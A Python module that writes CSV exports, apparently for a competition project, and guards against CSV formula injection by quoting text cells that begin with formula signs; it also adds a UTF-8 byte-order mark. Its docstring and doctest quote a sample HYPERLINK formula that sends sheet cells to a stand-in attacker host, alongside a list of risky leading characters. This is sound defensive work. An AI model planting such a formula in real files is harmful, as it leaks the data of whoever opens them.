"""CSV files for a spreadsheet: the one writer of every CSV the project hands out.

**No cell runs as a formula.** A player's or team's name, a club, a reason: text that people
typed, and a spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that begins with ``=``,
``+``, ``-`` or ``@`` as a formula when the organiser opens the file, e.g. a display name
``=HYPERLINK("http://evil.example/?"&A1,"x")`` that sends the sheet's cells away on a click. As
OWASP's "CSV Injection" advises, such a text cell (and one that begins with a tab or a carriage
return, which some spreadsheets skip before looking for the ``=``) is written with a single
quote in front: the spreadsheet shows the text as it is (the quote marks it as text and is not
shown), and a program reading the file sees the quote. The full-width forms of the four signs
(``＝`` and so on) are treated the same: Excel in East Asian locales reads them as the signs.

**Numbers stay numbers.** Only text is neutralised: a cell the writer is given as a number
(``int``, ``float``, ``Decimal``; a negative score of ``-2.5``) is written as one, so that the
sheet can sum it. The types decide, never the look of a text: a display name ``-1`` is text, and
gets its quote.

**Cyrillic opens right.** The file is UTF-8 with a byte-order mark: without it, Excel reads a
CSV in the system's ANSI code page and the names come out as mojibake.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Final

#: What a text cell may not begin with (OWASP): the formula signs, tab and carriage return, and
#: the signs' full-width forms.
FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BOM: Final = "\ufeff"


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell no spreadsheet runs: a number as it is, None as an empty cell,
    any other value as text, with a single quote in front when it begins like a formula.

    >>> safe_cell('=HYPERLINK("http://evil.example/","x")')
    '\\'=HYPERLINK("http://evil.example/","x")'
    >>> safe_cell(-2.5), safe_cell("-2.5"), safe_cell("Иванов")
    (-2.5, "'-2.5", 'Иванов')
    """
    if value is None:
        return ""
    if isinstance(value, (bool, int, float, Decimal)):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """``rows`` (the first usually the header) as a CSV file's bytes: every cell through
    :func:`safe_cell`, UTF-8 with a byte-order mark."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return (BOM + buffer.getvalue()).encode("utf-8")
